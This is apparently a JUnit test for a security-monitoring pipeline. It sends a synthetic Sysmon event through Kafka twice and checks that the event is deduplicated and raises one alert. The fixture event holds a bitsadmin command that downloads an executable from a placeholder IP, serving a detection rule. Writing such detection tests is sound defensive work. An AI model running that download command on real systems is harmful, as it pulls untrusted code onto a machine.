package vn.khien.monitoring;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.UUID;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

import tools.jackson.databind.json.JsonMapper;
import vn.khien.AccessFixtures;
import vn.khien.KhienTest;
import vn.khien.TestLogins;
import vn.khien.monitoring.internal.EventPipeline;
import vn.khien.monitoring.transport.KafkaBroker;
import vn.khien.monitoring.transport.KafkaSettings;
import vn.khien.monitoring.transport.KafkaTransport;
import vn.khien.monitoring.transport.RawEvent;
import vn.khien.monitoring.transport.TransportSettings;
import vn.khien.registry.Agency;

/**
 * The pipeline on a real Kafka broker (KRaft, in this JVM): a source's lines published to
 * the topic are decoded, placed and matched by the consumer, and a raw event delivered
 * twice (as at-least-once delivery may) is kept once and raises one alert.
 */
@KhienTest
class MonitoringKafkaTests {

	@Autowired
	MockMvcTester mvc;

	@Autowired
	TestLogins logins;

	@Autowired
	JsonMapper json;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	ApplicationContext context;

	@Autowired
	EventPipeline pipeline;

	@Test
	void linesThroughKafkaAreKeptOnceAndRaiseOneAlert() throws Exception {
		MonitoringCalls api = new MonitoringCalls(mvc, logins, json);
		Agency unit = new AccessFixtures(context).unit("SYT");
		api.source(unit.id());
		long source = jdbc.sql("SELECT source_id FROM event_source_agency WHERE agency_id = :a")
			.param("a", unit.id())
			.query(Long.class)
			.single();
		api.rule(MonitoringTests.BITSADMIN_RULE);
		String host = "kafka" + System.nanoTime() + ".example";
		String line = """
				{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "%s", \
				"Image": "C:\\\\Windows\\\\System32\\\\bitsadmin.exe", \
				"CommandLine": "bitsadmin /transfer job http://203.0.113.5/a.exe C:\\\\a.exe", \
				"@timestamp": "2026-11-30T03:00:00.000Z"}
				""".formatted(host);
		String topic = "khien-test-" + UUID.randomUUID();
		KafkaTransport transport = new KafkaTransport(KafkaSettings.of(KafkaBroker.servers(), topic, 2, topic),
				TransportSettings.defaults());
		transport.start(pipeline::ingestRaw);
		try {
			RawEvent raw = new RawEvent(source, unit.id(), Instant.now(), EventPipeline.RAW_LINES,
					line.getBytes(StandardCharsets.UTF_8));
			assertThat(transport.publish(raw)).isTrue();
			assertThat(transport.publish(raw)).as("the same event again, as a re-delivery brings it").isTrue();
			long handled = 0;
			for (int i = 0; i < 300 && handled < 2; i++) {
				handled = transport.counters().handled();
				Thread.sleep(100);
			}
			assertThat(handled).isEqualTo(2);
		}
		finally {
			transport.stop();
		}
		assertThat(jdbc.sql("SELECT COUNT(*) FROM monitored_event WHERE host_name = :h")
			.param("h", host)
			.query(Long.class)
			.single()).isEqualTo(1);
		assertThat(jdbc.sql("SELECT event_count FROM alert WHERE host_name = :h")
			.param("h", host)
			.query(Long.class)
			.list()).containsExactly(1L);
	}

}
